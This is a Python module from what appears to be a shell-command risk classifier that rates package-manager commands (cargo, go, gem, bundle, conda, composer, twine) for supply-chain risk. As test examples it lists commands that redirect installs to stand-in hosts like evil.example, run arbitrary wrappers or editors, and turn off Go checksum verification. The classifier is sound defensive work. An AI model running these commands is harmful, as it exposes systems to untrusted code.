"""Other languages' package managers: cargo, go, gem, bundle, conda, composer, twine."""
from __future__ import annotations

from wispsh.programs.delegate import runs_operands
from wispsh.programs.grammar import UNKNOWN
from wispsh.programs.packages import install_specs
from wispsh.programs.sources import index_is_known
from wispsh.programs.table import Grammar, On, Program, Row, When, emits, programs, verb
from wispsh.support.lazyre import lazy_re
from wispsh.vocab import places

# ---------------------------------------------------------------- cargo, go

CARGO_GRAMMAR = Grammar(values="Zpj", long_values=("config", "manifest-path", "target-dir", "color", "package",
                                                   "features", "git", "path", "branch", "tag", "rev", "registry",
                                                   "index", "root", "bin", "example", "jobs", "profile", "target",
                                                   "version"),
                        longs=("locked", "frozen", "offline", "release", "all-features", "workspace", "force"))
CARGO_INSTALL = verb(
    grammar=CARGO_GRAMMAR,
    rows=(Row("cargo.install.unnamed", "install", "{cmd}", When(operands=False, no_value=("git", "path")),
              examples=("cargo install",), not_examples=("cargo install x",)),),
    on=(On("write", ("option", "root"), says="installs into", id="cargo.install.root",
           examples=("cargo install --root ~/.local ripgrep",)),),
    hook=install_specs,
)
CARGO_INSTALL_BIN = verb(
    grammar=CARGO_GRAMMAR,
    rows=CARGO_INSTALL.rows + (
        Row("cargo.install.bin", "system", "{cmd} puts a crate's programs in ~/.cargo/bin, on PATH for every later "
                                           "shell, outside the project", When(operands=True),
            examples=("cargo install ripgrep", "cargo install --locked cargo-edit"),
            not_examples=("cargo install --path .", "cargo install")),),
    on=CARGO_INSTALL.on,
    hook=install_specs,
)
CARGO = Program(
    "cargo", doc="Rust's build tool and package manager",
    grammar=CARGO_GRAMMAR, manifest=("manifest-path",), anywhere=True,    # `cargo run --manifest-path D/Cargo.toml`
    rows=(Row("cargo.config", "run-code", "cargo --config can set a program to run", When(value=("config",)),
              examples=("cargo --config build.rustc-wrapper=/tmp/x build",)),),
    verbs={"install": CARGO_INSTALL_BIN, "add": CARGO_INSTALL,
           "fmt": verb(rows=(Row("cargo.fmt.check", "nothing", "cargo fmt --check only reports", When(arg=("--check",)),
                                 stop=True, examples=("cargo fmt -- --check", "cargo fmt --check")),
                             Row("cargo.fmt", "change", "cargo fmt rewrites the project's files",
                                 examples=("cargo fmt",)))),
           **dict.fromkeys(("publish", "yank", "owner", "login", "logout"), verb(rows=(
               Row("cargo.publish", "publish", "{cmd} publishes or changes your registry account",
                   examples=("cargo publish",)),)))},
    read_only=("version", "help", "tree", "metadata", "search", "locate-project", "pkgid", "verify-project",
               "read-manifest", "info"),
    default=Row("cargo.builds", "run-project", "{cmd} builds or runs project code", sets=("builds",),
                examples=("cargo build",)),
    examples={"cargo build": "moderate", "cargo --locked build": "moderate", "cargo tree": "safe",
              "cargo run --manifest-path /tmp/x/Cargo.toml": "high", "cargo build --manifest-path sub/Cargo.toml":
              "moderate", "cargo run -- --manifest-path /tmp/x/Cargo.toml": "moderate"},
)

_GO_REMOTE = lazy_re(r"[a-z0-9.-]+\.[a-z]{2,}/")


def _remote_module(target: str) -> bool:
    return "@" in target or bool(_GO_REMOTE.match(target)) and not target.startswith(".")


# go's flags that take a value (go help build, go help testflag), spelt with one dash (`-tags x`): read so
# that a value is not taken for the package
GO_LONG_VALUES = frozenset({
    "asmflags", "buildmode", "compiler", "gccgoflags", "gcflags", "installsuffix", "ldflags", "mod", "modfile",
    "overlay", "pgo", "pkgdir", "tags", "toolexec", "exec", "run", "bench", "count", "cpu", "timeout", "coverpkg",
    "covermode", "coverprofile", "cpuprofile", "memprofile", "blockprofile", "mutexprofile", "outputdir", "trace",
    "fuzz", "fuzztime", "parallel", "skip", "list", "benchtime", "p", "o", "C"})
GO_BUILD_GRAMMAR = Grammar(long_values=tuple(GO_LONG_VALUES))


def _go_operands(o) -> list[str]:
    """The operands of a go build verb, its one-dash flags read as go reads them (`-tags x`, `-o=out`)."""
    words = ["-" + w if w[:1] == "-" and w[1:2] != "-" and w[1:].split("=", 1)[0] in GO_LONG_VALUES else w
             for w in o.args]
    return GO_BUILD_GRAMMAR.read(words, stop=True).operands


def _go_target(cmd, target: str, what: str) -> None:
    """A package named by a path (`./cmd/x`, `/tmp/x`, `~/src/y/...`) or a .go file: its code is what runs."""
    if target.endswith(".go"):
        where = cmd.place(target)
        if where.cls not in (places.PROJECT, places.PROJECT_ROOT):
            cmd.run_file(target, f"{what} runs")
    elif target.startswith(("/", "./", "../", "~")) or target in (".", "..") or UNKNOWN in target:
        path = target[:-4] if target.endswith("/...") else target
        cmd.build_in(path or "/", what)


@emits({"go.run.remote": ["go run github.com/x/y@latest", "go run example.com/cmd/x"]})
def go_run_remote(cmd, o) -> None:
    """`go run MODULE@VERSION` downloads a module and runs it; `go run FILE.go…` or `go run DIR` runs the code
    there (judged by its place); what follows the package is the program's own arguments."""
    operands = _go_operands(o)
    target = operands[0] if operands else ""
    if _remote_module(target):
        cmd.does("run-unpinned", "go.run.remote", f"go run downloads and runs {target}")
        return
    files = target.endswith(".go")
    for word in operands if files else operands[:1]:     # the .go files, or one package; its arguments follow
        if files and not word.endswith(".go"):
            break
        _go_target(cmd, word, "go run")


def go_packages(cmd, o) -> None:
    """`go test PKG…`, `go generate PKG…`: the packages named by a path run their tests or generators."""
    for word in _go_operands(o):
        if word.startswith("-"):
            break       # `go test ./x -args -v`: the test binary's own flags
        _go_target(cmd, word, "go")


@emits({"go.install.remote": ["go install github.com/x/y@latest"]})
def go_install_remote(cmd, o) -> None:
    """`go install MODULE@VERSION` builds and installs a program from outside the project."""
    for target in o.operands:
        if _remote_module(target):
            cmd.does("install-outside", "go.install.remote", f"go install fetches and builds {target}")


GO_PROXIES_KNOWN = frozenset({"direct", "off", "https://proxy.golang.org"})
GO_CHECKS_OFF = ("GOSUMDB=off", "GONOSUMDB=*", "GONOSUMCHECK=1", "GOINSECURE=*", "GOFLAGS=-insecure")


@emits({"go.env.proxy": ["go env -w GOPROXY=https://evil.example", "go env -w GOPROXY=https://evil.example,direct"],
        "go.env.checks-off": ["go env -w GOSUMDB=off", "go env -w GONOSUMDB=*", "go env -w GOINSECURE=*"]})
def go_env_write(cmd, o) -> None:
    """`go env -w GOPROXY=…` says where every module comes from; GOSUMDB=off and friends stop checking them."""
    if not o.has("w"):
        return
    for assignment in o.operands:
        key, _, value = assignment.partition("=")
        if key == "GOPROXY" and any(p and p.rstrip("/") not in GO_PROXIES_KNOWN for p in value.replace("|", ",").split(",")):
            cmd.does("install-foreign", "go.env.proxy", f"go env -w GOPROXY={value}: every module comes from there, "
                                                        "unreviewed")
        elif assignment in GO_CHECKS_OFF or assignment.startswith("GOINSECURE=*"):
            cmd.does("weaken", "go.env.checks-off", f"go env -w {assignment} turns off module checksum verification")


GO_BUILDS = Row("go.builds", "run-project", "{cmd} builds or runs project code", sets=("builds",),
                examples=("go build ./...",))
GO = Program(
    "go", doc="Go's build tool",
    rows=(Row("go.toolexec", "run-code", "go runs another program (-toolexec/-exec)",
              When(arg=("-toolexec", "--toolexec", "-exec", "--exec")), examples=("go test -exec /tmp/x ./...",)),),
    verbs={
        "env": verb(hook=go_env_write, rows=(Row("go.env.write", "steer", "go env -w changes go's settings",
                                                 When(flag=("w", "u")), examples=("go env -w GOFLAGS=-mod=mod",)),)),
        "run": verb(rows=(Row("go.run", "run-project", "{cmd} builds or runs project code", sets=("builds",),
                              examples=("go run .",)),),
                    hook=go_run_remote, examples={"go run /tmp/x.go": "high", "go run ./cmd/tool -v": "moderate",
                                                  "go run ~/src/x": "high", "go run main.go /tmp/in": "moderate"}),
        **dict.fromkeys(("test", "generate"), verb(
            rows=(GO_BUILDS,), hook=go_packages,
            examples={"go test ./...": "moderate", "go test /tmp/x/...": "high", "go generate ~/x": "high",
                      "go test -run TestX ./pkg": "moderate"})),
        "install": verb(rows=(Row("go.install", "run-project", "{cmd} builds or runs project code",
                                  examples=("go install ./cmd/x",)),), hook=go_install_remote),
    },
    read_only=("version", "help", "doc", "list", "vet-help"),
    default=GO_BUILDS,
)

# ---------------------------------------------------------------- gem, bundle, conda, composer

@emits({"gem.sources.add": ["gem sources --add https://evil.example", "gem sources -a https://evil.example"],
        "gem.sources.add-known": ["gem sources --add https://rubygems.org/"]})
def gem_sources(cmd, o) -> None:
    """`gem sources --add URL`: every later install may come from URL."""
    for url in o.all("a", "add"):
        if index_is_known(url):
            cmd.does("steer", "gem.sources.add-known", f"gem sources --add {url}")
        else:
            cmd.does("install-foreign", "gem.sources.add", f"gem sources --add makes installs use {url}: what it "
                                                           f"serves runs unreviewed")


GEM = Program(
    "gem", doc="Ruby's package manager",
    verbs={
        # without --user-install, gem writes the system's gems as root and your home's otherwise: either way its
        # programs go on PATH outside the project (unless -i/--install-dir names a place, judged as a write)
        "install": verb(grammar=Grammar(values="sin", long_values=("source", "install-dir", "bindir")),
                        rows=(Row("gem.install", "system", "{cmd} installs gems outside the project: their programs "
                                                           "go on PATH for every later shell",
                                  When(operands=True, no_value=("i", "install-dir")),
                                  examples=("gem install rake", "gem install --user-install rake"),
                                  not_examples=("gem install -i vendor/gems rake",)),),
                        on=(On("write", ("option", "i", "install-dir", "n", "bindir"), says="installs into",
                               id="gem.install.into", examples=("gem install -i ~/.gems rake",)),),
                        hook=install_specs),
        "open": verb(grammar=Grammar(values="e", long_values=("editor",)), rows=(
            Row("gem.open.editor", "run-code", "gem runs the editor command it is given (-e)",
                When(value=("e", "editor")), stop=True, examples=("gem open -e 'sh -c id' x",)),
            Row("gem.open", "session", "opens a gem in an editor", examples=("gem open x",)))),
        **dict.fromkeys(("push", "yank", "owner", "signin"), verb(rows=(
            Row("gem.publish", "publish", "{cmd} publishes or changes your account", examples=("gem push x.gem",)),))),
        "sources": verb(grammar=Grammar(values="ar", long_values=("add", "remove")), hook=gem_sources, rows=(
            Row("gem.sources.change", "change", "gem sources changes where gems install from",
                When(flag=("r", "remove", "c", "clear-all", "u", "update")), examples=("gem sources -r https://x",)),)),
    },
    read_only=("list", "search", "info", "query", "environment", "help", "contents", "specification", "which",
               "outdated"),
    default=Row("gem.verb", "install", "{cmd}", examples=("gem update", "gem build x.gemspec")),
)

@emits({"bundle.config.mirror": ["bundle config set --global mirror.https://rubygems.org https://evil.example",
                                "bundle config mirror.https://rubygems.org https://evil.example"],
        "bundle.config": ["bundle config set path vendor"]})
def bundle_config(cmd, o) -> None:
    """`bundle config [set] mirror.SOURCE URL` sends every install from SOURCE to URL."""
    words = [w for w in o.operands if w not in ("set", "unset", "get", "list")]
    if words and words[0].startswith("mirror.") and len(words) > 1 and not index_is_known(words[1]):
        cmd.does("install-foreign", "bundle.config.mirror", f"bundle config sends installs to {words[1]}: what it "
                                                            f"serves runs unreviewed")
    else:
        cmd.does("install", "bundle.config", "bundle config changes bundler's settings")


BUNDLE = Program(
    "bundle", aliases=("bundler",), doc="Ruby's dependency manager",
    verbs={**dict.fromkeys(("exec", "ex"), verb(grammar=Grammar(stop=True), hook=runs_operands, rows=(
        Row("bundle.exec", "run-project", "bundle exec runs project code", examples=("bundle exec rspec",)),))),
        "config": verb(hook=bundle_config)},
    read_only=("list", "show", "info", "outdated", "check", "version"),
    default=Row("bundle.verb", "install", "{cmd}", examples=("bundle install", "bundle update")),
    no_verb=Row("bundle.install", "install", "bundle installs the project's gems", sets=("builds",),
                examples=("bundle",)),
)

KNOWN_CHANNELS = frozenset({"conda-forge", "defaults", "bioconda", "pytorch", "nvidia", "main", "r", "msys2"})


def _channel_known(channel: str) -> bool:
    return channel in KNOWN_CHANNELS or index_is_known(channel)


@emits({"conda.channel": ["conda install -c evilchan numpy", "conda install --channel https://evil.example/c numpy"]})
def conda_channels(cmd, o) -> None:
    """A channel other than the well-known ones is a foreign index."""
    for channel in o.all("c", "channel"):
        if not _channel_known(channel):
            cmd.does("install-foreign", "conda.channel", f"conda installs from channel {channel}: what it serves "
                                                         f"runs unreviewed")


@emits({"conda.config.channel": ["conda config --add channels evil",
                                 "conda config --prepend channels https://x.example/c"],
        "conda.config": ["conda config --set auto_activate_base false", "conda config --add channels conda-forge"]})
def conda_config(cmd, o) -> None:
    """`conda config --add channels NAME`: every later install may come from NAME."""
    if o.has("show", "show-sources", "describe", "validate", "get") and not o.has("add", "set", "append", "prepend",
                                                                                  "remove"):
        return
    added = [w for i, w in enumerate(o.args) if i and o.args[i - 1] in ("channels", "default_channels")]
    foreign = [c for c in added if not _channel_known(c)]
    if foreign:
        cmd.does("install-foreign", "conda.config.channel", f"conda config adds the channel {foreign[0]}: what it "
                                                            f"serves runs unreviewed")
    else:
        cmd.does("steer", "conda.config", "changes conda's configuration")


CONDA_CHANGES = verb(grammar=Grammar(values="cnp", long_values=("channel", "name", "prefix", "file")),
                     rows=(Row("conda.change", "install", "{cmd}", examples=("conda install numpy",)),),
                     hook=conda_channels)
CONDA = Program(
    "conda", aliases=("mamba", "micromamba"), doc="the conda package and environment manager",
    verbs={
        **dict.fromkeys(("install", "create", "update", "upgrade", "remove", "uninstall"), CONDA_CHANGES),
        "env": verb(verbs=dict.fromkeys(("create", "update", "remove"), verb(rows=(
            Row("conda.env.change", "install", "conda changes environments", examples=("conda env create -f env.yml",)),
        )))),
        "run": verb(grammar=Grammar(values="np", long_values=("name", "prefix", "cwd"), stop=True), hook=runs_operands,
                    rows=(Row("conda.run", "run-project", "conda runs a command in an environment",
                              examples=("conda run -n x python x.py",)),)),
        "config": verb(grammar=Grammar(long_values=("get", "add", "append", "prepend", "set", "remove", "file")),
                       hook=conda_config),
    },
    read_only=("list", "info", "search"),
    default=Row("conda.verb", "install", "{cmd}", examples=("conda activate x",)),
)

@emits({"composer.config.repository": ["composer config repositories.evil vcs https://evil.example/x",
                                      "composer global config repositories.x composer https://evil.example"],
        "composer.config.insecure": ["composer config secure-http false"],
        "composer.config": ["composer config process-timeout 0", "composer global config process-timeout 0"]})
def composer_config(cmd, o) -> None:
    """`composer config repositories.NAME TYPE URL` says where packages come from; secure-http false lets them
    come over plain http."""
    words = list(o.operands)
    if words and words[0] == "config":
        words = words[1:]
    key = words[0] if words else ""
    if key.startswith(("repositories.", "repo.")) and any("://" in w and not index_is_known(w) for w in words[1:]):
        cmd.does("install-foreign", "composer.config.repository", "composer config adds a package repository: what "
                                                                  "it serves runs unreviewed")
    elif key == "secure-http" and words[1:2] == ["false"]:
        cmd.does("weaken", "composer.config.insecure", "composer config lets packages come over plain http")
    else:
        cmd.does("install", "composer.config", f"{cmd.name} changes composer's settings")


@emits({"composer.global": ["composer global require x/y", "composer global update"]})
def composer_global(cmd, o) -> None:
    """`composer global VERB …` runs VERB in composer's home project: what it requires puts programs in its
    vendor/bin, on PATH for every later shell, outside the project. `composer global config` is config."""
    verb_word = o.operands[0] if o.operands else ""
    if verb_word == "config":
        composer_config(cmd, o)
    elif verb_word and verb_word not in COMPOSER_READ_ONLY:
        cmd.does("system", "composer.global", f"composer global {verb_word} changes the global packages: their "
                                              f"programs go on PATH for every later shell, outside the project")


COMPOSER_READ_ONLY = ("show", "info", "outdated", "licenses", "depends", "why", "search", "validate")
COMPOSER = Program(
    "composer", doc="PHP's dependency manager",
    verbs={"config": verb(hook=composer_config), "global": verb(hook=composer_global)},
    read_only=COMPOSER_READ_ONLY,
    default=Row("composer.verb", "install", "{cmd}", examples=("composer require x/y", "composer update")),
    no_verb=Row("composer.install", "install", "composer installs the project's dependencies", examples=("composer",)),
)

TWINE = Program(
    "twine", doc="uploads Python packages",
    verbs=dict.fromkeys(("upload", "publish", "push", "release"), verb(rows=(
        Row("twine.upload", "publish", "twine publishes a package", examples=("twine upload dist/*",)),))),
    read_only=("check",),
    default=Row("twine.verb", "unknown", "{cmd}", examples=("twine register x",)),
)



PROGRAMS = programs(CARGO, GO, GEM, BUNDLE, CONDA, COMPOSER, TWINE)
